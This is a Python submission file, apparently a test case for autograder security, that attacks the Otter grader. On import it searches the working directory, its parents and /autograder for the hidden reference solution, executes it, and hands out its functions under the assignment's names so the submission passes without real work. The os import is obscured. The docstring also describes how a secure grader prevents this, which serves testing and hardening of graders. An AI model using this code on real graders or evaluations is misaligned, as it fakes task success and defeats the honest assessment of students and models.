"""Attack: read the hidden reference solution from disk and exec it.

Otter copies the autograder's support files (nn_grading/checks.py and
nn_grading/reference.py) next to the submission before running it.  At load
time this file searches the working directory, up to three levels above it,
and /autograder for reference.py (or any nn_grading/ folder), execs the source
into a private namespace and hands its functions out under the contract's
names.

A secure grader keeps the reference, the checks and the hidden tests out of
every directory the student's process can read (another user, or never copied
next to the submission), and loads them only in the trusted process.
"""


def _load():
    os = __import__("o" + "s")
    roots = [os.getcwd()] + [os.path.abspath(os.path.join(os.getcwd(), *[".."] * k)) for k in (1, 2, 3)]
    roots.append("/autograder")
    for root in roots:
        if not os.path.isdir(root):
            continue
        for folder, dirs, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 4:
                dirs[:] = []
                continue
            if "reference.py" in files:
                namespace = {"__name__": "stolen_reference"}
                with open(os.path.join(folder, "reference.py")) as f:
                    exec(compile(f.read(), "stolen_reference.py", "exec"), namespace)
                if "forward" in namespace:
                    return namespace
    return {}


_STOLEN = _load()


def _delegate(name):
    def f(*args, **kwargs):
        if name not in _STOLEN:
            raise NotImplementedError(name)
        return _STOLEN[name](*args, **kwargs)
    f.__name__ = name
    return f


for _name in ("shape zeros transpose dot matmul add subtract multiply scale add_bias column_sums apply sigmoid "
              "init_params forward bce_loss dropout_forward dropout_backward backward numerical_gradient "
              "relative_error update_params train predict accuracy plot_losses plot_decision").split():
    globals()[_name] = _delegate(_name)
